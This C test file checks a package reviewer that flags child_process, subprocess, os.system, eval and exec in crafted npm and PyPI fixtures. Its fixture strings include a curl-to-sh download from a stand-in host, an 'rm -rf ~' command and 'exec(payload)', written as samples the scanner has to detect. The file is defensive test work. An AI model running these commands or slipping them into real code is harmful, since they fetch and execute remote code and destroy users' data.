/* test_review_exec.c: the process-execution and dynamic-code reviewer:
 * child_process / subprocess / os.system are MEDIUM, eval and Function
 * LOW, a shell download on the same line HIGH; Function('return this')
 * is not a finding; the real packages stay at LOW. */
#include "review_fixture.h"
#include "tap.h"

int main(void)
{
	fixture f;
	review_findings fs;
	const char *js[] = {
		"lib/a.js", "const cp = require('child_process');\n"
		            "cp.execSync('curl -s http://x.invalid/a | sh');\n"
		            "eval(code);\n"
		            "var g = Function('return this')();\n"
		            "obj.eval(x);\n", NULL };
	fixture_crafted(&f, "npm", "x", js);
	fixture_review(&fs, &review_exec, &f);
	const review_finding *x = fixture_find(&fs, "process-exec");
	ok(x && x->severity == SEV_MEDIUM && x->line == 1, "child_process is MEDIUM at line 1");
	x = fixture_find(&fs, "exec-shell-download");
	ok(x && x->severity == SEV_HIGH && x->line == 2, "execSync of a curl pipe is HIGH at line 2");
	x = fixture_find(&fs, "dynamic-code");
	ok(x && x->severity == SEV_LOW && x->line == 3, "eval is LOW at line 3");
	int lines_ok = 1;
	for (size_t i = 0; i < fs.n; i++)
		if (fs.items[i].line == 4 || fs.items[i].line == 5)
			lines_ok = 0;
	ok(lines_ok, "Function('return this') and obj.eval() are not findings");
	review_findings_dispose(&fs);
	fixture_dispose(&f);

	const char *py[] = { "m/__init__.py", "import subprocess, os\nos.system('rm -rf ~')\nexec(payload)\n", NULL };
	fixture_crafted(&f, "pypi", "x", py);
	fixture_review(&fs, &review_exec, &f);
	ok(fixture_find(&fs, "process-exec") && fixture_find(&fs, "dynamic-code"), "Python: os.system and exec");
	review_findings_dispose(&fs);
	fixture_dispose(&f);

	/* dotenv's CLI: "cmd.exe" in another statement of a minified line. */
	const char *dotenv[] = { "cli.cjs", "const cp=require('child_process');const shell=process.platform==='win32'?'cmd.exe':'sh';"
	                                    "cp.spawnSync(cmd,args,{stdio:'inherit'});\n", NULL };
	fixture_crafted(&f, "npm", "x", dotenv);
	fixture_review(&fs, &review_exec, &f);
	ok(!fixture_find(&fs, "exec-shell-download") && fixture_worst(&fs) == SEV_MEDIUM,
	   "a shell name in another statement of the line is not a shell download (MEDIUM)");
	review_findings_dispose(&fs);
	fixture_dispose(&f);

	char who[512] = "";
	ok(fixture_quiet_on_clean(&review_exec, SEV_LOW, who, sizeof who), "quiet (LOW at most) on the real packages %s", who);
	return tap_done();
}
